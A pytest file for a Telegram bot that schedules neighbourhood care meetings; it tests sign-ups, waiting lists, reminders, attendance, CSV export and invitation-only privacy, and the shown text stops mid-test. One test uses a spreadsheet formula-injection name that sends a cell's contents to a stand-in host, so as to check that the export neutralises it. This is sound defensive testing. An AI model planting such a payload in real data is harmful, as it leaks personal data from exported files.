"""Care meetings: a coordinator creates and announces one, neighbours sign up, get reminded,
and the organiser records who came."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from icalendar import Calendar
from sqlalchemy import select, update
from sqlalchemy.ext.asyncio import AsyncEngine

from bot.identity import ensure_person_of, group_of
from bot.sandbox import SandboxClient, SandboxServer
from models import (
    Council,
    Meeting,
    MeetingKind,
    MeetingSignup,
    MeetingStatus,
    OutboxMessage,
    OutboxStatus,
    Role,
    SignupStatus,
    clock,
)
from models.clock import utcnow
from models.db import session_factory
from models.meetings import counts, join
from models.people import give_consent
from scheduler.meetings import ask_attendance, remind_due
from tests.auxil.delivery import register_people, until_settled
from tests.auxil.town import Town, add_person, make_town, new_group, settle

labels = SandboxClient.labels

pytestmark = pytest.mark.usefixtures("bot")

TOKYO = ZoneInfo("Asia/Tokyo")
MIKA, HANAKO, ICHIRO, WEST_PERSON, STRANGER = 5101, 5102, 5103, 5104, 5105
TITLE = "ご近所ケア会議"
STALE = "このボタンは、もう使えません。お手数ですが、もう一度はじめからお願いします。"


def _next_wednesday() -> datetime:
    """A Wednesday more than a week ahead, at 14:00 in Tokyo."""
    day = utcnow().astimezone(TOKYO).date() + timedelta(days=8)
    day += timedelta(days=(2 - day.weekday()) % 7)
    return datetime(day.year, day.month, day.day, 14, 0, tzinfo=TOKYO)


START = _next_wednesday()
TYPED = f"{START.month}月{START.day}日(水) 14:00-15:30"
SHOWN = (f"{'' if START.year == utcnow().astimezone(TOKYO).year else f'{START.year}年'}"
         f"{START.month}月{START.day}日(水) 14:00〜15:30")


@pytest.fixture
async def town(engine: AsyncEngine, sandbox: SandboxServer) -> Town:
    """東地区: coordinator 美香, residents 花子 and 一郎; 次郎 lives in 西地区."""
    town = await make_town(engine)
    for telegram_id, name, district, roles in (
            (MIKA, "田中 美香", town.east, ((Role.DISTRICT_COORDINATOR, town.east),)),
            (HANAKO, "佐藤 花子", town.east, ()), (ICHIRO, "鈴木 一郎", town.east, ()),
            (WEST_PERSON, "山田 次郎", town.west, ())):
        sandbox.ensure_user(telegram_id, name.split()[1], name.split()[0], started=True)
        await add_person(engine, telegram_id, name, district, roles=roles)
    sandbox.ensure_user(STRANGER, "知らない人", started=False)
    return town


async def _say(sb: SandboxClient, user: int, text: str) -> dict:
    sent = await sb.send_text(user, text)
    return await sb.wait_for_message(user, after=sent["message_id"])


async def _linked_group(sb: SandboxClient, engine: AsyncEngine, town: Town,
                        members: list[int]) -> dict:
    group = await new_group(sb, "東地区 ご近所ネット",
                            {MIKA: "creator", **dict.fromkeys(members, "member")})
    async with session_factory(engine)() as session, session.begin():
        tracked = await group_of(session, group["id"])
        assert tracked is not None
        tracked.district_id = town.east.id
    return group


async def _create(sb: SandboxClient, *, announce: bool = True, typed: str = TYPED,
                  shown: str = SHOWN) -> dict:
    """Walk /newevent as 美香, with the bad answers on the way; return the last answer."""
    kinds = await _say(sb, MIKA, "/newevent")
    assert kinds["text"] == "どんな会ですか？"
    assert labels(kinds) == ["ご近所ケア会議", "支え合いワークショップ", "協議体",
                             "勉強会・研修", "活動報告会", "その他"]
    await sb.press(MIKA, kinds, text="ご近所ケア会議")
    ask_title = await sb.wait_for_edit(MIKA, kinds["message_id"])
    assert ask_title["text"].startswith("「ご近所ケア会議」ですね。会の名前を送ってください")
    ask_when = await _say(sb, MIKA, TITLE)
    assert ask_when["text"].startswith("日にちと時間を送ってください。")
    for bad, expected in (
            ("2月30日 14:00-15:30", "を日時として読み取れませんでした。"),
            (f"{START.month}月{START.day}日 15:30-14:00", "を日時として読み取れませんでした。"),
            ("いつか", "を日時として読み取れませんでした。"),
            ("2020年1月1日 10:00", "は、もう過ぎています。")):
        reply = await _say(sb, MIKA, bad)
        assert expected in reply["text"], bad
    confirm = await _say(sb, MIKA, typed)
    assert confirm["text"] == f"{shown} でよろしいですか？"
    await sb.press(MIKA, confirm, text="入力しなおす")
    await sb.wait_for_edit(MIKA, confirm["message_id"])
    confirm = await _say(sb, MIKA, typed)
    await sb.press(MIKA, confirm, text="はい")
    ask_place = await sb.wait_for_message(MIKA, after=confirm["message_id"])
    assert ask_place["text"].startswith("場所を送ってください")
    ask_capacity = await _say(sb, MIKA, "公民館")
    assert ask_capacity["text"].startswith("定員は何名ですか？")
    for bad in ("0", "たくさん", "-3", "1001"):
        reply = await _say(sb, MIKA, bad)
        assert reply["text"] == "定員は 1〜1000 の数字で送ってください。", bad
    ask_deadline = await _say(sb, MIKA, "１０名")
    assert ask_deadline["text"].startswith("申し込みの締め切りはいつですか？")
    reply = await _say(sb, MIKA, "2020年1月1日 10:00")
    assert reply["text"].startswith("締め切りを読み取れませんでした。")
    await sb.press(MIKA, ask_deadline, text="締め切りなし")
    ask_description = await sb.wait_for_message(MIKA, after=reply["message_id"])
    assert ask_description["text"].startswith("ひとこと説明があれば")
    await sb.press(MIKA, ask_description, text="とばす")
    summary = await sb.wait_for_message(MIKA, after=ask_description["message_id"])
    assert summary["text"].startswith("この内容で登録しますか？")
    for words in (f"ご近所ケア会議「{TITLE}」", f"日時: {shown}", "場所: 公民館",
                  "対象: 東地区", "定員: 10名", "参加できる人: 東地区のみなさん"):
        assert words in summary["text"]
    await sb.press(MIKA, summary, text="登録してグループに告知する" if announce
                   else "登録する（告知しない）")
    return await sb.wait_for_edit(MIKA, summary["message_id"])


async def _count(engine: AsyncEngine) -> tuple[int, int]:
    async with session_factory(engine)() as session:
        meeting_id = await session.scalar(select(Meeting.id))
        assert meeting_id is not None
        current = await counts(session, meeting_id)
        return current.confirmed, current.waiting


async def _press_in_group(sb: SandboxClient, user: int, post: dict, label: str
                          ) -> tuple[dict, dict]:
    """Press a button on the group post; return the alert and the edited post."""
    query = await sb.press(user, post, text=label)
    answer = await sb.wait_for_callback_answer(query)
    edited = await sb.wait_for_edit(post["chat"]["id"], post["message_id"])
    return answer, edited


async def test_the_care_meeting_walk(sb: SandboxClient, sandbox: SandboxServer,
                                     engine: AsyncEngine, town: Town) -> None:
    neighbours = await register_people(sandbox, engine, town.east, 9)
    group = await _linked_group(sb, engine, town, [HANAKO, ICHIRO, WEST_PERSON, STRANGER,
                                                   *neighbours])
    done = await _create(sb)
    assert done["text"] == f"「{TITLE}」を登録しました。グループ 1件に告知します。"
    await settle(sb)
    await until_settled(engine)
    [post] = [m for m in await sb.messages(group["id"]) if TITLE in m.get("text", "")]
    assert "参加予定 0/10名・キャンセル待ち 0名" in post["text"]
    assert labels(post) == ["参加する", "キャンセル"]

    post = await _first_sign_up(sb, post)
    post, told_last = await _fill_up(sb, engine, group, post, neighbours)
    await _cancel_and_promote(sb, post, neighbours[8], told_last)
    await _reminders(sb, engine)
    await _attendance(sb, engine)


async def _first_sign_up(sb: SandboxClient, post: dict) -> dict:
    """花子 joins from the group: the count changes there, the confirmation comes privately."""
    answer, post = await _press_in_group(sb, HANAKO, post, "参加する")
    assert answer["text"] == (
        f"「{TITLE}」への参加を受け付けました。くわしくは個別チャットに送りました。")
    assert "参加予定 1/10名・キャンセル待ち 0名" in post["text"]
    assert "佐藤" not in post["text"]
    confirmation = await sb.wait_for_message(HANAKO, after=0, timeout=20)
    assert confirmation["text"].startswith(f"「{TITLE}」への参加を受け付けました。")
    assert f"日時: {SHOWN}" in confirmation["text"]
    # The calendar file parses back with the time in Tokyo and the place.
    await sb.press(HANAKO, confirmation, text="カレンダーに入れる (.ics)")
    document = await sb.wait_for_message(HANAKO, after=confirmation["message_id"])
    calendar = Calendar.from_ical(await sb.download(document["document"]["file_id"]))
    [event] = calendar.walk("VEVENT")
    assert event.decoded("dtstart") == START
    assert str(event.decoded("dtstart").tzinfo) == "Asia/Tokyo"
    assert event.decoded("dtend") == START + timedelta(minutes=90)
    assert str(event.get("location")) == "公民館"
    assert str(event.get("summary")) == TITLE

    return post


async def _fill_up(sb: SandboxClient, engine: AsyncEngine, group: dict, post: dict,
                   neighbours: list[int]) -> tuple[dict, list[dict]]:
    """A double tap, /events, eight more, the waiting list, refusals; return the post."""
    query = await sb.press(HANAKO, post, text="参加する")
    assert (await sb.wait_for_callback_answer(query))["text"] == (
        f"「{TITLE}」には、もう申し込んでいます。")
    await settle(sb)
    assert await _count(engine) == (1, 0)

    # 一郎 joins from /events in his private chat: his card and the group post change.
    heading = await _say(sb, ICHIRO, "/events")
    assert heading["text"] == "「東地区」のこれからの会（1件）"
    card = await sb.wait_for_message(ICHIRO, after=heading["message_id"])
    assert "参加予定 1/10名" in card["text"]
    await sb.press(ICHIRO, card, text="参加する")
    card = await sb.wait_for_edit(ICHIRO, card["message_id"])
    assert "参加予定 2/10名・キャンセル待ち 0名" in card["text"]
    post = await sb.wait_for_edit(group["id"], post["message_id"])
    assert "参加予定 2/10名・キャンセル待ち 0名" in post["text"]

    # Eight more fill it; the ninth neighbour goes on the waiting list.
    for number, neighbour in enumerate(neighbours[:8], start=3):
        _answer, post = await _press_in_group(sb, neighbour, post, "参加する")
        assert f"参加予定 {number}/10名・キャンセル待ち 0名" in post["text"]
    last = neighbours[8]
    answer, post = await _press_in_group(sb, last, post, "参加する")
    assert answer["text"] == f"「{TITLE}」は満席のため、キャンセル待ちで受け付けました。"
    assert "参加予定 10/10名・キャンセル待ち 1名" in post["text"]
    await settle(sb)
    await until_settled(engine)
    full = [m["text"] for m in await sb.messages(MIKA) if "満席" in m.get("text", "")]
    assert full == [f"「{TITLE}」が満席（10名）になりました。"
                    "これからの申し込みはキャンセル待ちになります。"]
    told_last = [m for m in await sb.messages(last) if m["from"]["is_bot"]]
    assert [m["text"] for m in told_last] == [
        f"「{TITLE}」は満席のため、キャンセル待ち（1番目）で受け付けました。"
        "空きが出たら、お知らせします。"]

    # Someone from 西地区, and someone who never talked to the bot, cannot join.
    query = await sb.press(WEST_PERSON, post, text="参加する")
    answer = await sb.wait_for_callback_answer(query)
    assert answer["text"] == "この会は「東地区」のみなさん向けです。"
    query = await sb.press(STRANGER, post, text="参加する")
    answer = await sb.wait_for_callback_answer(query)
    assert answer["text"] == "申し込むには、はじめに私との個別チャットで登録してください。"
    assert answer["url"].startswith("https://t.me/")
    assert "start=ev" in answer["url"]
    await settle(sb)
    assert await _count(engine) == (10, 1)
    return post, told_last


async def _cancel_and_promote(sb: SandboxClient, post: dict, last: int,
                              told_last: list[dict]) -> None:
    """花子 cancels: the first in line moves up and is told."""
    answer, post = await _press_in_group(sb, HANAKO, post, "キャンセル")
    assert answer["text"] == f"「{TITLE}」の申し込みを取り消しました。"
    assert "参加予定 10/10名・キャンセル待ち 0名" in post["text"]
    promoted = await sb.wait_for_message(last, after=told_last[-1]["message_id"], timeout=20)
    assert promoted["text"].startswith(f"「{TITLE}」に空きが出たので、参加が決まりました。")
    assert "カレンダーに入れる (.ics)" in labels(promoted)



async def _reminders(sb: SandboxClient, engine: AsyncEngine) -> None:
    """The day before at 18:00 and two hours before, to the ten confirmed only."""
    evening = datetime.combine(START.date() - timedelta(days=1), datetime.min.time(),
                               tzinfo=TOKYO) + timedelta(hours=18)
    factory = session_factory(engine)
    for now, expected in ((evening - timedelta(minutes=1), 0), (evening, 10),
                          (evening + timedelta(hours=3), 0), (START - timedelta(hours=2), 10),
                          (START - timedelta(hours=1), 0), (START, 0)):
        async with factory() as session, session.begin():
            assert await remind_due(session, now.astimezone(UTC), TOKYO) == expected, now
    await settle(sb)
    await until_settled(engine)
    got = [m["text"] for m in await sb.messages(ICHIRO) if m["text"].startswith("【")]
    assert got == [f"【お知らせ】「{TITLE}」\n日時: {SHOWN}\n場所: 公民館\n"
                   "お気をつけてお越しください。",
                   f"【まもなく】「{TITLE}」\n日時: {SHOWN}\n場所: 公民館"]
    assert not [m for m in await sb.messages(HANAKO) if m.get("text", "").startswith("【")]



async def _attendance(sb: SandboxClient, engine: AsyncEngine) -> None:
    """After the meeting (moved into the past here), 美香 records who came."""
    factory = session_factory(engine)
    async with factory() as session, session.begin():
        await session.execute(update(Meeting).values(
            starts_at=utcnow() - timedelta(hours=3), ends_at=utcnow() - timedelta(hours=1)))
    async with factory() as session, session.begin():
        assert await ask_attendance(session, utcnow()) == 1
    async with factory() as session, session.begin():
        assert await ask_attendance(session, utcnow()) == 0
    await settle(sb)
    await until_settled(engine)
    [ask] = [m for m in await sb.messages(MIKA) if "が終わりました" in m.get("text", "")]
    await sb.press(MIKA, ask, text="出席を記録する")
    sheet = await sb.wait_for_message(MIKA, after=ask["message_id"])
    assert sheet["text"].startswith(f"「{TITLE}」の出席: 0/10名・当日参加 0名")
    assert "鈴木 一郎" in labels(sheet)
    assert "佐藤 花子" not in labels(sheet)
    await sb.press(MIKA, sheet, text="鈴木 一郎")
    sheet = await sb.wait_for_edit(MIKA, sheet["message_id"])
    assert "✅ 鈴木 一郎" in labels(sheet)
    for _ in range(2):
        await sb.press(MIKA, sheet, text="当日参加 +1")
        sheet = await sb.wait_for_edit(MIKA, sheet["message_id"])
    assert sheet["text"].startswith(f"「{TITLE}」の出席: 1/10名・当日参加 2名")
    query = await sb.press(ICHIRO, sheet, text="記録を終える", forge=True)
    assert (await sb.wait_for_callback_answer(query))["show_alert"] is True
    await sb.press(MIKA, sheet, text="記録を終える")
    saved = await sb.wait_for_edit(MIKA, sheet["message_id"])
    assert saved["text"] == f"「{TITLE}」の出席を記録しました: 参加 1名・当日参加 2名。"
    await settle(sb)
    async with factory() as session:
        meeting = (await session.scalars(select(Meeting))).one()
        assert meeting.walk_ins == 2
        assert meeting.attendance_recorded_at is not None
        attended = list(await session.scalars(select(MeetingSignup).where(
            MeetingSignup.attended.is_(True))))
        assert len(attended) == 1


async def test_the_organiser_view_changes_and_cancellation(
    sb: SandboxClient, engine: AsyncEngine, town: Town
) -> None:
    done = await _create(sb, announce=False)
    assert done["text"] == f"「{TITLE}」を登録しました。"
    for person in (HANAKO, ICHIRO):
        heading = await _say(sb, person, "/events")
        card = await sb.wait_for_message(person, after=heading["message_id"])
        await sb.press(person, card, text="参加する")
        await sb.wait_for_edit(person, card["message_id"])
    # The confirmations go through the outbox: delivered before 花子 types her next command,
    # so that her chat's next message is its answer.
    await until_settled(engine)
    # 西地区 does not see 東地区's meetings.
    west = await _say(sb, WEST_PERSON, "/events")
    assert west["text"] == "「西地区」で、これからの会はありません。"

    # A resident may not use the organiser's tools, even with forged buttons.
    none = await _say(sb, HANAKO, "/myevents")
    assert none["text"] == "あなたが開く会は、ありません。/newevent で登録できます。"
    mine = await _say(sb, MIKA, "/myevents")
    assert "参加予定 2/10名・キャンセル待ち 0名" in mine["text"]
    change_data = next(b["callback_data"] for row in SandboxClient.buttons(mine) for b in row
                       if b["text"] == "日時を変える")
    query = await sb.press(HANAKO, mine, data=change_data, forge=True)
    answer = await sb.wait_for_callback_answer(query)
    assert answer["text"].startswith("この会を変えられるのは、開く人か")

    await sb.press(MIKA, mine, text="参加者を見る")
    listing = await sb.wait_for_message(MIKA, after=mine["message_id"])
    assert listing["text"] == (f"「{TITLE}」の参加者（2/10名）\n1. 佐藤 花子\n2. 鈴木 一郎\n\n"
                               "キャンセル待ち（0名）\nまだいません。")
    await sb.press(MIKA, mine, text="CSVで書き出す")
    document = await sb.wait_for_message(MIKA, after=listing["message_id"])
    rows = (await sb.download(document["document"]["file_id"])).decode("utf-8-sig").splitlines()
    assert rows[0] == "名前,状態,申し込み順,出席,申し込み日時"
    assert rows[1].startswith("佐藤 花子,参加,1,,")

    shown = await _change_time(sb, engine, mine, document)
    await _cancel(sb, engine, shown)


async def test_a_name_that_looks_like_a_formula_stays_text_in_the_participant_csv(
    sb: SandboxClient, engine: AsyncEngine, town: Town, sandbox: SandboxServer
) -> None:
    evil = '=HYPERLINK("http://evil.example/?leak="&A2,"詳細はこちら")'
    trickster = 5106
    sandbox.ensure_user(trickster, evil, started=True)
    await add_person(engine, trickster, evil, town.east)
    await _create(sb, announce=False)
    for person in (trickster, HANAKO):
        heading = await _say(sb, person, "/events")
        card = await sb.wait_for_message(person, after=heading["message_id"])
        await sb.press(person, card, text="参加する")
        await sb.wait_for_edit(person, card["message_id"])
    mine = await _say(sb, MIKA, "/myevents")
    await sb.press(MIKA, mine, text="CSVで書き出す")
    document = await sb.wait_for_message(MIKA, after=mine["message_id"])
    text = (await sb.download(document["document"]["file_id"])).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert [r[0] for r in rows[1:]] == [f"'{evil}", "佐藤 花子"]
    for cell in (c for r in rows for c in r):
        assert cell == "-" or not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


async def _change_time(sb: SandboxClient, engine: AsyncEngine, mine: dict, document: dict
                       ) -> str:
    """A reminder queued for the old time is stopped when the time changes; return it."""
    evening = datetime.combine(START.date() - timedelta(days=1), datetime.min.time(),
                               tzinfo=TOKYO) + timedelta(hours=18)
    factory = session_factory(engine)
    async with factory() as session, session.begin():
        assert await remind_due(session, evening.astimezone(UTC), TOKYO) == 2
        # Held back (as in quiet hours): still waiting when the time changes.
        await session.execute(update(OutboxMessage).where(
            OutboxMessage.idempotency_key.startswith("meeting-remind:"))
            .values(due_at=utcnow() + timedelta(days=30)))
    await sb.press(MIKA, mine, text="日時を変える")
    ask = await sb.wait_for_message(MIKA, after=document["message_id"])
    assert ask["text"].startswith("日にちと時間を送ってください。")
    bad = await _say(sb, MIKA, "2月30日 10:00")
    assert "を日時として読み取れませんでした。" in bad["text"]
    later = START + timedelta(days=7)
    # Read back before it is changed; 「はい」 typed (as an older resident does) is the button.
    confirm = await _say(sb, MIKA, f"{later.month}月{later.day}日 10:00-11:30")
    assert confirm["text"].endswith(" 10:00〜11:30 でよろしいですか？")
    assert labels(confirm) == ["はい", "入力しなおす"]
    changed = await _say(sb, MIKA, "はい")
    assert changed["text"] == f"「{TITLE}」を変更しました。申し込んだ 2名にお知らせします。"
    await settle(sb)
    async with factory() as session:
        reminders = list(await session.scalars(select(OutboxMessage).where(
            OutboxMessage.idempotency_key.startswith("meeting-remind:"))))
        assert {r.status for r in reminders} == {OutboxStatus.CANCELLED}
    later_evening = evening + timedelta(days=7)
    async with factory() as session, session.begin():
        assert await remind_due(session, later_evening.astimezone(UTC), TOKYO) == 2
    await settle(sb)
    await until_settled(engine)
    notice = [m["text"] for m in await sb.messages(HANAKO) if "変わりました" in m.get("text", "")]
    year = "" if later.year == utcnow().astimezone(TOKYO).year else f"{later.year}年"
    shown = (f"{year}{later.month}月{later.day}日({'月火水木金土日'[later.weekday()]}) "
             "10:00〜11:30")
    assert notice == [f"「{TITLE}」の日時・場所が変わりました。\n日時: {shown}\n場所: 公民館"]

    return shown


async def _cancel(sb: SandboxClient, engine: AsyncEngine, shown: str) -> None:
    """Cancelling tells everyone; joining afterwards is refused."""
    factory = session_factory(engine)
    mine = await _say(sb, MIKA, "/myevents")
    await sb.press(MIKA, mine, text="中止する")
    sure = await sb.wait_for_message(MIKA, after=mine["message_id"])
    await sb.press(MIKA, sure, text="中止する")
    cancelled = await sb.wait_for_edit(MIKA, sure["message_id"])
    assert cancelled["text"] == f"「{TITLE}」を中止しました。2名にお知らせします。"
    await settle(sb)
    await until_settled(engine)
    told = [m["text"] for m in await sb.messages(ICHIRO) if "中止" in m.get("text", "")]
    assert told == [f"「{TITLE}」（{shown}）は中止になりました。"]
    card = next(m for m in await sb.messages(HANAKO) if "参加予定" in m.get("text", ""))
    query = await sb.press(HANAKO, card, text="参加する")
    assert (await sb.wait_for_callback_answer(query))["text"] == "この会は中止になりました。"
    after = await _say(sb, HANAKO, "/events")
    assert after["text"] == "「東地区」で、これからの会はありません。"
    await settle(sb)
    async with factory() as session:
        statuses = list(await session.scalars(select(MeetingSignup.status)))
        assert statuses == [SignupStatus.CONFIRMED] * 2


async def test_only_coordinators_create_and_sign_up_closes_at_the_deadline(
    sb: SandboxClient, engine: AsyncEngine, town: Town
) -> None:
    refusal = await _say(sb, HANAKO, "/newevent")
    assert refusal["text"] == (
        "会議・ワークショップを登録できるのは、生活支援コーディネーターだけです。")
    await _create(sb, announce=False)
    heading = await _say(sb, HANAKO, "/events")
    card = await sb.wait_for_message(HANAKO, after=heading["message_id"])
    async with session_factory(engine)() as session, session.begin():
        await session.execute(update(Meeting).values(
            signup_deadline=utcnow() - timedelta(minutes=1)))
    query = await sb.press(HANAKO, card, text="参加する")
    assert (await sb.wait_for_callback_answer(query))["text"] == (
        f"「{TITLE}」の申し込みは締め切りました。")
    query = await sb.press(HANAKO, card, text="キャンセル")
    assert (await sb.wait_for_callback_answer(query))["text"] == (
        f"「{TITLE}」には申し込んでいません。")
    await settle(sb)
    assert await _count(engine) == (0, 0)


async def _walk_to_summary(sb: SandboxClient, user: int) -> dict:
    """The shortest way through /newevent (a workshop); return the last question."""
    kinds = await _say(sb, user, "/newevent")
    await sb.press(user, kinds, text="支え合いワークショップ")
    await sb.wait_for_edit(user, kinds["message_id"])
    await _say(sb, user, "支え合いワークショップ")
    confirm = await _say(sb, user, TYPED)
    await sb.press(user, confirm, text="はい")
    await sb.wait_for_message(user, after=confirm["message_id"])
    await _say(sb, user, "市民センター")
    await _say(sb, user, "30")
    deadline = await _say(sb, user, f"{START.month}月{START.day - 1 or 1}日")
    assert deadline["text"].startswith("ひとこと説明があれば"), deadline["text"]
    return await _say(sb, user, "地域のみなさんで話し合います。")


async def test_a_city_wide_meeting_by_invitation(
    sb: SandboxClient, sandbox: SandboxServer, engine: AsyncEngine, town: Town
) -> None:
    ken = 5106
    sandbox.ensure_user(ken, "健", "高橋", started=True)
    await add_person(engine, ken, "高橋 健", town.east,
                     roles=((Role.MUNICIPAL_COORDINATOR, town.city),))
    ask_area = await _walk_to_summary(sb, ken)
    assert ask_area["text"] == "どの地域の会ですか？"
    assert labels(ask_area) == ["テスト市", "東地区", "西地区"]
    await sb.press(ken, ask_area, text="テスト市")
    summary = await sb.wait_for_edit(ken, ask_area["message_id"])
    assert "参加できる人: テスト市のみなさん" in summary["text"]
    assert "地域のみなさんで話し合います。" in summary["text"]
    assert "申し込み締め切り:" in summary["text"]
    assert "招待した人だけにする" in labels(summary)
    await sb.press(ken, summary, text="招待した人だけにする")
    summary = await sb.wait_for_edit(ken, summary["message_id"])
    assert "参加できる人: 招待した人だけ" in summary["text"]
    assert "登録してグループに告知する" not in labels(summary)
    assert "だれでも参加できるようにする" in labels(summary)
    await sb.press(ken, summary, text="登録する（告知しない）")
    done = await sb.wait_for_edit(ken, summary["message_id"])
    assert done["text"].startswith("「支え合いワークショップ」を登録しました。招待した人だけの会")
    await sb.press(ken, done, text="招待リンクを作る")
    made = await sb.wait_for_message(ken, after=done["message_id"])
    link = made["text"].split("\n")[-1]
    assert "start=mi" in link

    # Not listed for residents; the invitation link opens it, for 西地区 too (city-wide).
    none = await _say(sb, HANAKO, "/events")
    assert none["text"] == "「東地区」で、これからの会はありません。"
    sent = await sb.open_link(WEST_PERSON, link)
    welcome, card = await sb.wait_for_messages(WEST_PERSON, after=sent["message_id"], count=2)
    assert welcome["text"].startswith("会に招待されました。")
    assert "対象: テスト市" in card["text"]
    await sb.press(WEST_PERSON, card, text="参加する")
    card = await sb.wait_for_edit(WEST_PERSON, card["message_id"])
    assert "参加予定 1/30名・キャンセル待ち 0名" in card["text"]

    # 美香 coordinates 東地区 only: the city's meeting by invitation is not hers to see.
    mine = await _say(sb, ken, "/myevents")
    place = next(b["callback_data"] for row in SandboxClient.buttons(mine) for b in row
                 if b["text"] == "場所を変える")
    query = await sb.press(MIKA, mine, data=place, forge=True)
    answer = await sb.wait_for_callback_answer(query)
    assert answer["text"] == STALE
    await sb.press(ken, mine, text="場所を変える")
    ask = await sb.wait_for_message(ken, after=mine["message_id"])
    assert ask["text"].startswith("場所を送ってください")
    changed = await _say(sb, ken, "市役所 3階")
    assert changed["text"] == (
        "「支え合いワークショップ」を変更しました。申し込んだ 1名にお知らせします。")


async def test_events_in_a_group_chat(sb: SandboxClient, engine: AsyncEngine, town: Town
                                      ) -> None:
    group = await _linked_group(sb, engine, town, [HANAKO])
    await _create(sb, announce=False)
    sent = await sb.send_text(HANAKO, "/events", chat_id=group["id"])
    heading, card = await sb.wait_for_messages(group["id"], after=sent["message_id"], count=2)
    assert heading["text"] == "「東地区」のこれからの会（1件）"
    assert "参加予定 0/10名" in card["text"]
    query = await sb.press(HANAKO, card, text="参加する")
    assert (await sb.wait_for_callback_answer(query))["text"].startswith(f"「{TITLE}」への参加")
    card = await sb.wait_for_edit(group["id"], card["message_id"])
    assert "参加予定 1/10名・キャンセル待ち 0名" in card["text"]
    assert "佐藤" not in card["text"]


async def test_a_long_participant_list_shows_what_fits_and_points_to_the_csv(
    sb: SandboxClient, engine: AsyncEngine, town: Town
) -> None:
    """45 people with 100-character names do not fit in one message (4096 characters):
    the list shows whole lines, says how many more there are, and offers the CSV."""
    await _create(sb, announce=False)
    names = [f"{i:02d}" + "長" * 98 for i in range(1, 46)]
    async with session_factory(engine)() as session, session.begin():
        meeting_id = await session.scalar(select(Meeting.id))
        assert meeting_id is not None
        for i, name in enumerate(names):
            person = await ensure_person_of(session, 5200 + i)
            await give_consent(session, person, district_id=town.east.id, display_name=name)
            await join(session, meeting_id, person.id, utcnow())
    assert await _count(engine) == (10, 35)

    mine = await _say(sb, MIKA, "/myevents")
    await sb.press(MIKA, mine, text="参加者を見る")
    listing = await sb.wait_for_message(MIKA, after=mine["message_id"])
    text = listing["text"]
    assert len(text.encode("utf-16-le")) // 2 <= 4096
    lines = text.split("\n")
    assert lines[0] == f"「{TITLE}」の参加者（10/10名）"
    assert lines[1:11] == [f"{i}. {name}" for i, name in enumerate(names[:10], 1)]
    assert lines[11:13] == ["", "キャンセル待ち（35名）"]
    shown = lines[13:-2]
    assert shown == [f"{i}. {name}" for i, name in enumerate(names[10:10 + len(shown)], 1)]
    assert 20 < len(shown) < 35  # as many whole lines as fit, not a handful
    assert lines[-2:] == ["", f"ほか {35 - len(shown)}名は、CSV でご覧ください（下のボタン）。"]

    await sb.press(MIKA, listing, text="CSVで書き出す")
    document = await sb.wait_for_message(MIKA, after=listing["message_id"])
    rows = list(csv.reader(io.StringIO(
        (await sb.download(document["document"]["file_id"])).decode("utf-8-sig"), newline="")))
    assert [row[0] for row in rows[1:]] == names


CARE_TITLE = "佐藤花子さん個別ケア会議"
CARE_PLACE = "公民館 2階"
KAZUKO = 5107


async def _create_by_invitation(sb: SandboxClient) -> dict:
    """美香 writes a care meeting about one person, for invited people only; return the
    message that says it is registered (with the ways to invite)."""
    kinds = await _say(sb, MIKA, "/newevent")
    await sb.press(MIKA, kinds, text="ご近所ケア会議")
    await sb.wait_for_edit(MIKA, kinds["message_id"])
    await _say(sb, MIKA, CARE_TITLE)
    confirm = await _say(sb, MIKA, TYPED)
    await sb.press(MIKA, confirm, text="はい")
    await sb.wait_for_message(MIKA, after=confirm["message_id"])
    await _say(sb, MIKA, CARE_PLACE)
    ask_deadline = await _say(sb, MIKA, "8")
    await sb.press(MIKA, ask_deadline, text="締め切りなし")
    ask_description = await sb.wait_for_message(MIKA, after=ask_deadline["message_id"])
    await sb.press(MIKA, ask_description, text="とばす")
    summary = await sb.wait_for_message(MIKA, after=ask_description["message_id"])
    assert "参加できる人: 東地区のみなさん" in summary["text"]
    await sb.press(MIKA, summary, text="招待した人だけにする")
    summary = await sb.wait_for_edit(MIKA, summary["message_id"])
    assert "参加できる人: 招待した人だけ" in summary["text"]
    assert labels(summary) == ["登録する（告知しない）", "だれでも参加できるようにする",
                               "やめる"]
    await sb.press(MIKA, summary, text="登録する（告知しない）")
    done = await sb.wait_for_edit(MIKA, summary["message_id"])
    assert done["text"] == (
        f"「{CARE_TITLE}」を登録しました。招待した人だけの会なので、グループには告知しません。\n"
        "下のボタンから、参加してほしい人を招待してください。")
    assert labels(done) == ["名前で招待する", "招待リンクを作る"]
    return done


async def _refused_everywhere(sb: SandboxClient, user: int, meeting_id: int) -> None:
    """What someone not invited gets for the meeting's id: exactly what a meeting that does
    not exist gives, and never its title or place."""
    missing = meeting_id + 1000
    answers = []
    for number in (meeting_id, missing):
        reply = await _say(sb, user, f"/start ev{number}")
        texts = [reply["text"]]
        for data in (f"mj:j:{number}", f"mj:c:{number}", f"mj:i:{number}", f"mo:p:{number}",
                     f"mo:iv:{number}", f"mo:il:{number}", f"ma:v:{number}"):
            query = await sb.press(user, reply, data=data, forge=True)
            texts.append((await sb.wait_for_callback_answer(query))["text"])
        answers.append(texts)
    assert answers[0] == answers[1]
    assert answers[0][1:] == [STALE] * 7
    await settle(sb)
    for message in await sb.messages(user):
        assert CARE_TITLE not in message.get("text", ""), message
        assert CARE_PLACE not in message.get("text", ""), message
    events = await _say(sb, user, "/events")
    assert events["text"].endswith("で、これからの会はありません。")


async def test_a_care_meeting_by_invitation_is_only_for_the_invited(
    sb: SandboxClient, sandbox: SandboxServer, engine: AsyncEngine, town: Town
) -> None:
    """Issue 15, finding 4: 美香 invites 花子 by name and 次郎 of 西地区 by a link; 一郎 (a
    neighbour), 西地区 and the group never see the meeting; the council's digest counts it
    without its title."""
    group = await _linked_group(sb, engine, town, [HANAKO, ICHIRO])
    done = await _create_by_invitation(sb)
    async with session_factory(engine)() as session:
        meeting_id = await session.scalar(select(Meeting.id))
        assert meeting_id is not None

    menu, found = await _invite_hanako_by_name(sb, done)

    # 花子 is told privately, with the title and place, and joins.
    await settle(sb)  # the invitation is committed, then delivered
    await until_settled(engine)
    notice = next(m for m in await sb.messages(HANAKO) if "招待が届きました" in m.get("text", ""))
    assert notice["text"].startswith("田中 美香さんから、会への招待が届きました。")
    assert CARE_TITLE in notice["text"]
    assert f"場所: {CARE_PLACE}" in notice["text"]
    assert "招待された人だけの会です。" in notice["text"]
    query = await sb.press(HANAKO, notice, text="参加する")
